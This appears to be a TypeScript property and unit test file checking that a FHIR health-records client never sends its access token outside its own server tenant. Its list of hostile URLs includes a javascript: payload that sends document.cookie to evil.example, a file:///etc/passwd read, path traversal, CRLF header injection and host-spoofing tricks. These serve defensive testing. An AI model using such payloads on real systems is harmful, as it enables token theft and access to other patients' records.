import { expect } from '@open-wc/testing';
import fc from 'fast-check';

import { FhirClient } from '../../src/fhir/index.js';
import { authorizedRequest } from '../../src/session/authorized-request.js';
import { createTokenGuard } from '../../src/smart/index.js';
import { runs } from '../support/property-runs.js';
import { answer, codeOf } from './answers.js';

const base = 'https://ehr.example/fhir/R4/riverside';
const start = `${base}/Observation?patient=1`;
const rest = '/fhir/R4/riverside/Patient/1';

/** What leads somewhere else, or may lead there at some server: none of it may be asked for, in whatever way it comes. */
const hostile: readonly string[] = [
  // another host, however it is written
  `https://evil.example${rest}`,
  `HTTPS://EVIL.EXAMPLE${rest}`,
  `hTtPs://evil.example${rest}`,
  `//evil.example${rest}`,
  `///evil.example${rest}`,
  `https:\\\\evil.example${rest}`,
  `\\\\evil.example${rest}`,
  `/\\evil.example${rest}`,
  `https:////evil.example${rest}`,
  `https://ehr.example.evil.example${rest}`,
  `https://ehr.example-evil.example${rest}`,
  `https://notehr.example${rest}`,
  `https://ehr.example.${rest}`,
  `https://ehr.examp1e${rest}`,
  `https://ehr.ехample${rest}`,
  `https://xn--hr-slc.example${rest}`,
  `https://www.ehr.example${rest}`,
  `https://2130706433${rest}`,
  `https://[::ffff:7f00:1]${rest}`,
  `https://evil.example/https://ehr.example${rest}`,
  `https://evil.example/?${base}/Patient/1`,
  `https://evil.example/#${base}/Patient/1`,
  `https://evil.example\\@ehr.example${rest}`,
  // somebody in it
  `https://ehr.example@evil.example${rest}`,
  `https://ehr.example%40evil.example${rest}`,
  `https://ehr.example:443@evil.example${rest}`,
  `https://admin@ehr.example${rest}`,
  `https://admin:pw@ehr.example${rest}`,
  `http://admin@ehr.example${rest}`,
  // another port, another scheme
  `https://ehr.example:444${rest}`,
  `https://ehr.example:80${rest}`,
  `http://ehr.example:443${rest}`,
  `http://ehr.example:8080${rest}`,
  `http://evil.example${rest}`,
  `ht\ttp://evil.example${rest}`,
  `ws://ehr.example${rest}`,
  `wss://ehr.example${rest}`,
  `ftp://ehr.example${rest}`,
  `blob:https://ehr.example${rest}`,
  `view-source:${base}/Patient/1`,
  'javascript:fetch("https://evil.example/"+document.cookie)',
  'java\nscript:alert(1)',
  'data:application/fhir+json,{"resourceType":"Patient"}',
  'file:///etc/passwd',
  // the server, and another tenant of it
  'https://ehr.example/fhir/R4/hillcrest/Patient/1',
  'https://ehr.example/fhir/R4/riverside2/Patient/1',
  'https://ehr.example/fhir/R4/Riverside/Patient/1',
  'https://ehr.example/fhir/R4/riverside%2fPatient/1',
  'https://ehr.example/fhir/R4/%72iverside/Patient/1',
  'https://ehr.example/',
  'http://ehr.example/fhir/R4/hillcrest/Patient/1',
  '/fhir/R4/hillcrest/Patient/1',
  // out of it, step by step
  '../hillcrest/Patient/1',
  'Patient/../../hillcrest/Patient/1',
  `${base}/../hillcrest/Patient/1`,
  `${base}/%2e%2e/hillcrest/Patient/1`,
  `${base}/.%2E/hillcrest/Patient/1`,
  `${base}/..%2fhillcrest/Patient/1`,
  `${base}/..%5Chillcrest/Patient/1`,
  `${base}/..\\hillcrest\\Patient\\1`,
  `${base}/%252e%252e%252fhillcrest/Patient/1`,
  `${base}/..;/hillcrest/Patient/1`,
  `${base}/.\t./hillcrest/Patient/1`,
  `${base}//evil.example/Patient/1`,
  `${base}/Patient/1%00.json`,
  `${base}/Patient/1%0d%0aHost:%20evil.example`,
  // nothing
  'https://',
  'https://[',
  'http://ehr.example:99999/',
  `\0https://evil.example${rest}`,
  `https://evil.example\0.ehr.example${rest}`,
];

/** A session's `fetch`: with the guard of the token, it writes down where the token went. */
class Session {
  readonly sent: string[] = [];
  readonly refused: string[] = [];
  readonly #guard = createTokenGuard(base);
  readonly #bodies: Readonly<Record<string, unknown>>;

  constructor(bodies: Readonly<Record<string, unknown>> = {}) {
    this.#bodies = bodies;
  }

  readonly fetch = async (url: string): Promise<Response> => {
    let checked: string;
    try {
      checked = this.#guard(url).href;
    } catch (thrown) {
      this.refused.push(url);
      throw thrown;
    }
    this.sent.push(checked);
    return answer(this.#bodies[checked] ?? '', this.#bodies[checked] ? 200 : 404);
  };
}

/** Whether a URL is of the server: not by our guard, but by looking at it. */
function isAtHome(url: string): boolean {
  const [, path] = /^https:\/\/ehr\.example\/fhir\/R4\/riverside((?:\/[^?#]*)?)(?:\?.*)?$/.exec(url) ?? [];
  return path !== undefined && !/\/\.{1,2}(?:\/|$)|\/\/|[\\;]|%(?:2f|5c|2e|25|3b|00)/i.test(path);
}

const page = (next: string): object => ({
  resourceType: 'Bundle',
  link: [{ relation: 'next', url: next }],
  entry: [{ resource: { resourceType: 'Observation', id: '1' } }],
});

/** The ways by which a URL comes to the client: each gives what it ends with. */
const ways: Readonly<Record<string, (url: string) => Promise<{ session: Session; end: unknown }>>> = {
  async read(url) {
    const session = new Session();
    return { session, end: await codeOf(new FhirClient({ fetch: session.fetch, base }).read(url)) };
  },
  async search(url) {
    const session = new Session();
    const pages = new FhirClient({ fetch: session.fetch, base }).search(url);
    return { session, end: await codeOf(pages.next()) };
  },
  async 'next link'(url) {
    const session = new Session({ [start]: page(url) });
    const pages = new FhirClient({ fetch: session.fetch, base }).search('Observation?patient=1');
    const { value } = await pages.next();
    // Where it is followed, it finds nothing.
    await pages.next().catch(() => undefined);
    return { session, end: value?.stopped?.reason };
  },
  async resolve(url) {
    const session = new Session();
    return { session, end: await codeOf(new FhirClient({ fetch: session.fetch, base }).resolve(url)) };
  },
  async 'resolve in a Bundle of another server'(url) {
    const session = new Session();
    const container = { resourceType: 'Observation' };
    const bundle = {
      resourceType: 'Bundle',
      entry: [{ fullUrl: 'https://evil.example/fhir/Observation/1', resource: container }],
    };
    const client = new FhirClient({ fetch: session.fetch, base });
    return { session, end: await codeOf(client.resolve(url, { container, bundle })) };
  },
};

describe('The token goes to no other place', () => {
  for (const [way, go] of Object.entries(ways)) {
    for (const url of hostile) {
      it(`SMART-58: not by ${way} of ${JSON.stringify(url)}`, async () => {
        const { session, end } = await go(url);
        expect(session.sent).to.deep.equal(way === 'next link' ? [start] : []);
        expect(end).to.be.oneOf(
          way === 'next link'
            ? ['foreign']
            : ['fhir/foreign-url', 'fhir/invalid-source', 'fhir/broken-reference'],
        );
        if (way !== 'read' && way !== 'search') {
          // Links and references do not even come as far as the session.
          expect(session.refused).to.deep.equal([]);
        }
      });
    }
  }

  it(`SMART-58: and not in clear text, where a server is at http of its own host by mistake`, async () => {
    const url = `http://ehr.example${rest}`;
    const read = await ways['read']!(url);
    expect(read).to.deep.include({ end: 'fhir/foreign-url' });
    expect(read.session.sent).to.deep.equal([]);
    expect((await ways['resolve']!(url)).session.sent).to.deep.equal([`${base}/Patient/1`]);
    expect((await ways['next link']!(url)).session.sent).to.deep.equal([start, `${base}/Patient/1`]);
  });

  it('SMART-58: whatever a URL is made of', async function whateverUrl() {
    // Not a wait for anything: it takes as long as it takes.
    this.timeout(0);
    const url = fc
      .tuple(
        fc.constantFrom(
          'https:',
          'http:',
          'HTTPS:',
          'ht\ttps:',
          'blob:https:',
          'javascript:',
          '',
          ' https:',
          'ws:',
        ),
        fc.constantFrom('//', '/', '\\\\', '/\\', '///', '', '//\t'),
        fc.constantFrom('', 'a@', 'a:b@', 'ehr.example@', 'ehr.example:443@', '%40', '\\@'),
        fc.constantFrom(
          'ehr.example',
          'EHR.example',
          'ehr.example.',
          'evil.example',
          'ehr.example.evil.example',
          'ehr。example',
          '',
        ),
        fc.constantFrom('', ':443', ':80', ':8443', ':', ':0443'),
        fc.constantFrom(
          '/fhir/R4/riverside',
          '/fhir/R4/hillcrest',
          '/fhir/R4/riverside/..',
          '/fhir//R4/riverside',
          '',
        ),
        fc.array(
          fc.constantFrom(
            '/',
            '..',
            '.',
            '%2e',
            '%2f',
            '%5c',
            '\\',
            ';',
            '%00',
            '\n',
            'Patient',
            '1',
            '?',
            '#',
            '@',
            '%25',
          ),
          { maxLength: 8 },
        ),
      )
      .map((parts) => parts.flat().join(''));
    const run = fc.asyncProperty(fc.oneof(url, fc.string({ unit: 'binary' })), async (target) => {
      for (const go of Object.values(ways)) {
        const { session } = await go(target);
        for (const sent of session.sent) {
          expect(isAtHome(sent), `${sent} from ${JSON.stringify(target)}`).to.equal(true);
        }
      }
    });
    await fc.assert(run, { numRuns: runs });
  });
});

describe('A redirect', () => {
  /** Does as browsers do: it follows where it may, and writes down where it came. */
  async function redirecting(init: RequestInit, came: string[]): Promise<Response> {
    if (init.redirect === 'error') {
      throw new TypeError('Failed to fetch');
    }
    came.push('https://evil.example/');
    return answer({ resourceType: 'Patient', id: '1' });
  }

  for (const [who, prepare] of [
    ['the client', (init) => init],
    [
      'the session',
      (init) => authorizedRequest({ ...init, redirect: 'follow' }, 'a-token', new AbortController().signal),
    ],
  ] as readonly [string, (init: RequestInit) => RequestInit][]) {
    it(`takes a request nowhere: ${who} does not follow it`, async () => {
      const came: string[] = [];
      const client = new FhirClient({ fetch: (_, init) => redirecting(prepare(init), came), base });
      expect(await codeOf(client.read('Patient/1'))).to.equal('fhir/unreachable');
      expect(came).to.deep.equal([]);
    });
  }
});
